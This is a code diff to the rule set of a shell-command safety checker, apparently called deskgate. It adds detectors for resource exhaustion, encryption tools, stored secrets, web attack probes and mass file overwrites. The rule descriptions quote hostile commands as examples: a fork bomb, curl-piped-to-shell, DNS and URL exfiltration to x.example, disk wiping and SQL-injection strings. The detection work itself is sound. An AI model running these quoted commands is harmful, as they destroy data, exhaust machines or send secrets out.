@@ -270,6 +270,10 @@ class Detector(
             elif kind == "code-reverse-shell":
                 add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
                             "interpreter code connects a shell to a network socket", span))
+            elif kind == "code-exhaust":
+                add(Finding("confirm.shell.system-disruption", Risk.HIGH,
+                            "interpreter code grows memory or makes files in a loop with no end: it exhausts the "
+                            "machine", span))
             elif kind == "too-deep":
                 add(Finding("confirm.shell.complex", Risk.HIGH,
                             "commands nested too deep to analyse (wrapper inside wrapper ...)", span))
@@ -283,6 +287,8 @@ class Detector(
         for name, value in analysis.assignments:
             self.assignment(name, value, add)
         shell_catalogue.whole(analysis, add)
+        if "do" in analysis.source and "for" in analysis.source:
+            self.loop_rewrite(analysis, add)
         downloaded: dict[str, str] = {}
         written: dict[str, str] = {}
         for cmd in cmds:
@@ -426,12 +432,18 @@ for _n in _KILLERS:
     _BY_NAME[_n] = Detector.kill
 
 
+# perl's -i (edit in place), alone or after switches that take no value (-pi, -pi.bak, -i -pe, -lpi)
+_PERL_IN_PLACE = re.compile(r"-[aclnpsStTuUwWX0]*i[\w.~*]*$")
+
+
 def _perl_sed(d: Detector, cmd: Command, a: ShellAnalysis, where: str, add: Callable[[Finding], None]) -> None:
-    if any((x.startswith("-") and "i" in x and "e" in x) or x == "-i" for x in cmd.argv[1:]):
+    if any(_PERL_IN_PLACE.match(x) for x in cmd.argv[1:]):
         d.sed(cmd, a, where, add)
 
 
 _BY_NAME["perl"] = _perl_sed
+for _n in ("gpg", "gpg2", "openssl", "age", "ccrypt"):
+    _BY_NAME[_n] = Detector.encrypt_found
 
 # every program some detector above judges by name (the effect table need not describe these again)
 _JUDGED = frozenset({*_BY_NAME, *_DELETERS, *_DB_CLIENTS, *_NET_TOOLS, *_LOLBINS, *_PKG_INSTALL, *_PKG_REMOVE,
@@ -606,7 +618,8 @@ RULES: tuple[Rule, ...] = (
           "Formatting, partitioning, wiping or writing raw data to a disk device (mkfs, dd of=/dev/sda, "
           "wipefs -a, fdisk, shred /dev/..., > /dev/sda)."),
     _make("block.shell.fork-bomb", "fork bomb", Risk.CRITICAL,
-          "A function or program that starts copies of itself without end (`:(){ :|:& };:`)."),
+          "A function or program that starts copies of itself without end (`:(){ :|:& };:`, a script running "
+          "`$0 & $0`, interpreter code that forks in a loop: os.fork, pcntl_fork, Ruby's loop { fork })."),
     _make("block.shell.remote-code-exec", "remote code piped into a shell", Risk.CRITICAL,
           "Code downloaded and executed unseen: curl|sh, bash <(curl ...), eval \"$(curl ...)\", interpreter "
           "code that fetches and execs, mshta/regsvr32 with a URL; a download saved into a folder programs run "
@@ -658,7 +671,8 @@ RULES: tuple[Rule, ...] = (
           "/usr/bin/bash) or a protected path; a logon-screen accessibility program (sethc, utilman, osk, "
           "magnify, narrator, displayswitch, atbroker) taken over by takeown / icacls /grant, renamed away or "
           "replaced by a copy; a Windows system file written by a content cmdlet (Add-Content -Path "
-          "C:\\Windows\\System32\\drivers\\etc\\hosts)."),
+          "C:\\Windows\\System32\\drivers\\etc\\hosts); the resolver list pointed at an unknown outside "
+          "server, or a hosts line that sends a sign-in, payment, package or update site to another address."),
     _make("block.shell.policy-pattern", "policy block pattern", Risk.CRITICAL,
           "A simple command matches one of the policy's `[shell] block_patterns`."),
     _make("block.shell.supervisor-tamper", "attacks deskgate itself", Risk.CRITICAL,
@@ -676,7 +690,8 @@ RULES: tuple[Rule, ...] = (
           "rsync ~/.ssh host:), DNS lookups or URLs built from command output (nslookup $(whoami).x.example, "
           "curl x.example/?d=$(cat f | base64)), ping -p with command output; an account, secret or records file "
           "(or a file just filled with the environment) uploaded to a public drop site; an account file or a "
-          "personal folder piped to a network sink; a data file mailed to a free-mail address."),
+          "personal folder piped to a network sink; a data file mailed to a free-mail address; a home, a personal "
+          "folder or a key folder packed into an archive that a later command of the line uploads or copies away."),
     _make("block.shell.cloud-exfiltration", "copies private data to storage outside the organisation",
           Risk.CRITICAL,
           "An object-store, sync or backup client (aws s3, gsutil, gcloud storage / compute scp, az storage, azcopy, "
@@ -865,7 +880,10 @@ RULES: tuple[Rule, ...] = (
           "release/...), reset --hard, clean -f, checkout --force / -- paths, "
           "restore, switch --discard-changes, branch -D, stash drop/clear, prune, filter-branch."),
     _make("confirm.shell.system-disruption", "system disruption", Risk.HIGH,
-          "shutdown, reboot, halt, poweroff, init 0/6, stopping or restarting services, killing processes."),
+          "shutdown, reboot, halt, poweroff, init 0/6, stopping or restarting services, killing processes; "
+          "resource exhaustion: a loop with no end (or a six-figure count) that makes a file, folder or link each "
+          "turn, an endless stream written into a file (yes > f, cat /dev/zero > f, dd with no count), "
+          "interpreter code that grows memory or makes files without end."),
     _make("confirm.shell.secret-read", "reads a secret", Risk.HIGH,
           "Reading keys, credentials, .env files, browser profiles, keychains or shell history "
           "(`[shell] secret_paths`, `history`, security find-generic-password, gpg --export-secret-keys)."),
@@ -873,7 +891,9 @@ RULES: tuple[Rule, ...] = (
           "crontab edits, systemctl enable, launchctl load, scheduled tasks, Run keys, writes to shell startup "
           "files, autostart, systemd units or cron directories (`[shell] persistence_paths`: also D-Bus service "
           "and polkit rule folders, emond rules, startup items, folder-action scripts, editor and REPL autoload "
-          "folders); osascript folder actions and login items."),
+          "folders; macOS Quick Look, Spotlight, authorization, audio and preference-pane plug-ins, periodic "
+          "and .local scripts, at jobs, ssh's rc, network hooks); osascript folder actions and login items; "
+          "Terminal's CommandString."),
     _make("confirm.shell.defense-evasion", "switches a defence off or hides tracks", Risk.HIGH,
           "Clearing or switching off one's shell history (history -c, unset HISTFILE, HISTSIZE=0), Windows "
           "living-off-the-land binaries (certutil -urlcache, ...). Switching a defence off blocks."),
@@ -911,6 +931,21 @@ RULES: tuple[Rule, ...] = (
     _make("confirm.shell.complex", "too complex to review", Risk.MEDIUM,
           "More simple commands than `[shell] max_commands`, or wrappers nested too deep to follow. Plain pipes "
           "and chains are not asked about (they only stop policy allow rules).", types=("shell",)),
+    _make("confirm.shell.secret-stored", "a secret kept in the clear", Risk.HIGH,
+          "A literal token or password handed to a tool's config or login verb (npm/pnpm/yarn config set of an "
+          "auth token, pip config set of a user:password index URL, git credential.helper store, docker login "
+          "-p): it is written into a plain-text config file and the shell history. A ${VAR} reference, a "
+          "keychain helper or --password-stdin passes."),
+    _make("confirm.shell.attack-probe", "a request that attacks a web application", Risk.HIGH,
+          "An HTTP client (curl, wget, httpie, xh) whose URL or body carries an attack: injected SQL "
+          "(' OR '1'='1, UNION SELECT, sleep()), a path that climbs to system files (../../etc/passwd), a shell "
+          "command after a separator, or a script tag. Probing a web application is only for one's own."),
+    _make("block.shell.mass-overwrite", "rewrites every file of a system tree", Risk.CRITICAL,
+          "An in-place editor, emptier, mover or encrypter (sed -i, perl -pi, truncate, cp /dev/null, mv, gpg -c, "
+          "openssl enc; chmod/chown are block.shell.insecure-permissions-root) run by find -exec or xargs on what a "
+          "search of /, a system tree or a home finds, or by a recursive grep's list of files there, or a for loop "
+          "over such a tree that writes, edits or encrypts each file: every match is rewritten at once with no "
+          "copy kept. Narrowed to one folder below a system tree it asks (confirm.shell.system-write)."),
     _make("confirm.shell.unparsable", "does not parse", Risk.HIGH,
           "The command has shell syntax errors: what it runs cannot be known for sure.", types=("shell",),
           confidence=0.5),
